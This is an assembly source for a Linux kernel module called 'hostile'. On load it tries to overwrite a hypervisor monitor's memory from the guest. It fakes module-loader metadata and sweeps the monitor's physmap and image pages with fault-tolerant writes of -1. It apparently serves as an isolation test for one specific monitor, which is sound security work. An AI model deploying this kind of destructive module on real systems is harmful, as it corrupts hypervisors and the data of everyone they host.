/* A Linux module that attacks the monitor under its kernel, from ring 3: when it is loaded, it writes over all
 * of the monitor that it can reach.  It calls nothing of the kernel's, so no headers are needed; what the
 * loader checks (VERMAGIC, LAYOUT_CRC, THIS_SIZE, INIT_AT) is taken from one of Debian's modules (pack). */

#define MONITOR		0xffff840000000000	/* slot 264 */
#define PHYSMAP		0xffff848000000000	/* slot 265: the monitor's frames, each at its number */
#define IMAGE_PAGES	2048
#define FRAMES		0x100000		/* of 4 GiB */
#define STRIDE		61

	.section .modinfo, "a"
	.asciz "license=GPL"
	.asciz "depends="
	.asciz "retpoline=Y"
	.asciz "name=hostile"
	.asciz VERMAGIC

	.section __versions, "a"
	.quad LAYOUT_CRC
	.asciz "module_layout"
	.balign 64

	.section .gnu.linkonce.this_module, "aw"
	.balign 64
	.skip 24
	.asciz "hostile"
	.org INIT_AT
	.quad init_module
	.org THIS_SIZE

	/* RDX to (RDI), and RDI on; a fault goes on at `refused`. */
.macro WRITE refused
1:	mov %rdx, (%rdi)
	add $8, %rdi
	.pushsection __ex_table, "a"
	.balign 4
	.long 1b - ., \refused - ., 1
	.popsection
.endm

	.text
	.globl init_module
init_module:
	movabs $PHYSMAP + 8, %rsi
	mov $FRAMES / STRIDE, %ecx
	mov $-1, %rdx
1:	mov %rsi, %rdi
	WRITE 2f
2:	add $STRIDE * 4096, %rsi
	loop 1b
	movabs $MONITOR, %rsi
	mov $IMAGE_PAGES, %ecx
3:	mov %rsi, %rdi
	mov $512, %eax
4:	WRITE 5f
	dec %eax
	jnz 4b
5:	add $4096, %rsi
	loop 3b
	xor %eax, %eax
	ret
	.section .note.GNU-stack, "", @progbits
